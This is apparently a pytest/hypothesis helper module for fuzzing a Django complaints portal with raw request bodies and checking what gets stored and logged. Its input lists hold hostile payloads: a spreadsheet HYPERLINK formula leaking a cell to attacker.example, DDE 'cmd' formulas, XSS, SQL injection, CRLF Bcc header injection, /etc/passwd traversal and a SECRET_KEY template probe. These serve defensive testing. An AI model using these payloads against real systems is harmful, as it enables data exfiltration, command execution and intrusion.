"""Property-based tests (hypothesis): shared strategies, raw request bodies and record counts.

The test client encodes strings strictly as UTF-8, so a lone surrogate ("\\ud800") would make the *client* fail
before anything reaches the server. The helpers here build the urlencoded or multipart body themselves, encoding
with errors="surrogatepass": the server receives the very bytes a hostile client would send.
"""

import contextlib
import logging
import os
import tempfile
import uuid
from dataclasses import dataclass
from pathlib import Path
from urllib.parse import quote, quote_plus

import pytest
from django.core.cache import cache
from hypothesis import HealthCheck, settings
from hypothesis import strategies as st
from hypothesis.configuration import set_hypothesis_home_dir

from feedback.models import Attachment, Case, CaseEvent, Complainant
from tests.feedback.conftest import CAPTCHA, jpeg_bytes, norm  # noqa: F401 - `norm` is a shared fixture
from tests.regulations.conftest import code_of_conduct  # noqa: F401 - shared fixture

# Hypothesis keeps caches (Unicode tables, constants found in the code) in a .hypothesis folder: outside the project.
set_hypothesis_home_dir(Path(tempfile.gettempdir()) / "hypothesis-culture-portal")

# Every property: no per-example deadline (the first request of a test warms templates up), fixtures shared by
# the examples of one test on purpose, and no example database written into the project folder.
COMMON = {
    "deadline": None,
    "database": None,
    "suppress_health_check": [HealthCheck.function_scoped_fixture, HealthCheck.too_slow, HealthCheck.data_too_large],
}


# PROPERTY_EXAMPLES_SCALE=10 runs ten times as many examples (a deeper search, e.g. nightly); the default keeps the
# folder well under a minute and a half on SQLite.
SCALE = max(1, int(os.environ.get("PROPERTY_EXAMPLES_SCALE", "1") or 1))


def property_settings(max_examples: int, **extra) -> settings:
    return settings(max_examples=max_examples * SCALE, **{**COMMON, **extra})


# --- strategies -------------------------------------------------------------------------------------------------

FORMULAS = [
    '=HYPERLINK("http://x","y")',
    '=HYPERLINK("http://attacker.example/?leak="&A1,"Bấm vào đây")',
    "+1+1",
    "-2",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "=cmd|' /C calc'!A0",
    "=1+1",
    "+cmd|'/c calc'!A0",
    '@HYPERLINK("http://x")',
]

NASTY = [
    "\x00",
    "a\x00b",
    "\ud800",  # lone high surrogate
    "\udfff",  # lone low surrogate
    "x\udcffy",
    "e\u0301",  # combining acute accent
    "\u0301\u0301\u0301",  # combining marks on nothing
    "Nguye\u0302\u0303n",  # Vietnamese written decomposed
    "\u202eevil\u202c",  # right-to-left override
    "\u200f\u05e9\u05dc\u05d5\u05dd",  # right-to-left mark, Hebrew
    "مرحبا",
    "\u2028",  # line separator
    "\u2029",
    "\r\n",
    "\n",
    "\r",
    "\t",
    "\x0b",
    "\x0c",
    "\x1b[31m",
    "\x85",
    "\ufeff",
    "\uffff",
    "\U0010ffff",
    "𝕳𝖊𝖑𝖑𝖔",
    "😀👍🏽",
    "ß",
    "İ",
    "\u0958",  # its NFC form is two code points
    "\u0344",  # its NFC form is two code points
    "<script>alert(1)</script>",
    "' OR 1=1 --",
    "%00",
    "%0d%0aBcc: x@example.com",
    "\r\nBcc: victim@example.com",
    "../../etc/passwd",
    "{{ settings.SECRET_KEY }}",
    "%(code)s",
    "0",
    "-1",
    "1e309",
    "99999999999999999999999999",
    "１２",
    " ",
    "",
    *FORMULAS,
]

any_char = st.characters(exclude_categories=())  # surrogates included
fragment = st.one_of(st.sampled_from(NASTY), st.text(any_char, max_size=12))


def _huge(parts) -> str:
    piece, size = parts
    piece = piece or "x"
    return (piece * (size // len(piece) + 1))[:size]


huge_text = st.tuples(
    st.sampled_from(["x", "ệ", "e\u0301", "😀", "\r\n", "\x00", "\u202e", "=1"]),
    st.sampled_from([151, 256, 10_001, 100_000]),
).map(_huge)
nasty_text = st.one_of(st.lists(fragment, max_size=6).map("".join), huge_text)


class Missing:
    """A field left out of the request altogether."""

    def __repr__(self):
        return "MISSING"


MISSING = Missing()


def field_value(valid=None):
    """A field: the valid value (when given), or arbitrary text, several values, a number, or no field at all."""
    options = [nasty_text, st.lists(nasty_text, min_size=2, max_size=3), st.integers().map(str), st.just(MISSING)]
    if valid is not None:
        options.insert(0, st.just(valid))
    return st.one_of(*options)


# --- raw request bodies -----------------------------------------------------------------------------------------


def raw(value: str) -> bytes:
    return value.encode("utf-8", "surrogatepass")


@dataclass(frozen=True)
class Upload:
    filename: str
    content: bytes
    content_type: str = "application/octet-stream"


def pairs_of(data: dict) -> list[tuple[str, object]]:
    """(name, value) pairs: lists become repeated fields, MISSING fields are left out."""
    pairs = []
    for name, value in data.items():
        if value is MISSING:
            continue
        for item in value if isinstance(value, list) else [value]:
            pairs.append((name, item))
    return pairs


def urlencoded(data: dict) -> bytes:
    return b"&".join(
        quote_plus(raw(name)).encode() + b"=" + quote_plus(raw(str(value))).encode() for name, value in pairs_of(data)
    )


def query_string(data: dict) -> str:
    return urlencoded(data).decode("ascii")


def multipart(data: dict) -> tuple[bytes, str]:
    boundary = f"----property{uuid.uuid4().hex}"
    chunks = []
    for name, value in pairs_of(data):
        if isinstance(value, Upload):
            head = (
                f'Content-Disposition: form-data; name="{name}"; filename="{value.filename}"\r\n'
                f"Content-Type: {value.content_type}\r\n\r\n"
            )
            body = value.content
        else:
            head, body = f'Content-Disposition: form-data; name="{name}"\r\n\r\n', raw(str(value))
        chunks.append(b"--" + boundary.encode() + b"\r\n" + raw(head) + body + b"\r\n")
    chunks.append(b"--" + boundary.encode() + b"--\r\n")
    return b"".join(chunks), f"multipart/form-data; boundary={boundary}"


def post_raw(client, path: str, data: dict, *, as_multipart: bool, **extra):
    if as_multipart:
        body, content_type = multipart(data)
    else:
        body, content_type = urlencoded(data), "application/x-www-form-urlencoded"
    return client.generic("POST", path, body, content_type=content_type, **extra)


def path_segment(value: str) -> str:
    return quote(raw(value), safe="")


# --- what a request left behind ---------------------------------------------------------------------------------

COUNTED = {"case": Case, "complainant": Complainant, "attachment": Attachment, "event": CaseEvent}


def counts() -> dict[str, int]:
    return {name: model.objects.count() for name, model in COUNTED.items()}


def stored_text_is_clean(instance) -> list[str]:
    """Problems with the text a row holds: NUL, lone surrogates (PostgreSQL refuses both), over-long values."""
    problems = []
    for field in instance._meta.concrete_fields:
        value = getattr(instance, field.attname)
        if not isinstance(value, str):
            continue
        if "\x00" in value:
            problems.append(f"{field.name}: NUL")
        try:
            value.encode("utf-8")
        except UnicodeEncodeError:
            problems.append(f"{field.name}: lone surrogate")
        if field.max_length is not None and len(value) > field.max_length:
            problems.append(f"{field.name}: {len(value)} characters, the column holds {field.max_length}")
    return problems


def one_line(text: str) -> bool:
    return "\r" not in text and "\n" not in text


class RecordsHandler(logging.Handler):
    def __init__(self):
        super().__init__(level=logging.DEBUG)
        self.records: list[logging.LogRecord] = []

    def emit(self, record):
        self.records.append(record)


@contextlib.contextmanager
def captured_logs():
    """Every record any logger emits (propagated to the root), whatever the configured levels."""
    handler = RecordsHandler()
    root = logging.getLogger()
    previous = root.level
    root.addHandler(handler)
    root.setLevel(logging.DEBUG)
    try:
        yield handler.records
    finally:
        root.removeHandler(handler)
        root.setLevel(previous)


@pytest.fixture(autouse=True)
def fresh_rate_limits():
    """Rate limits live in the cache: every test starts with none used (examples clear it themselves)."""
    cache.clear()
    yield
    cache.clear()


@pytest.fixture
def media(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path / "media"
    return settings.MEDIA_ROOT
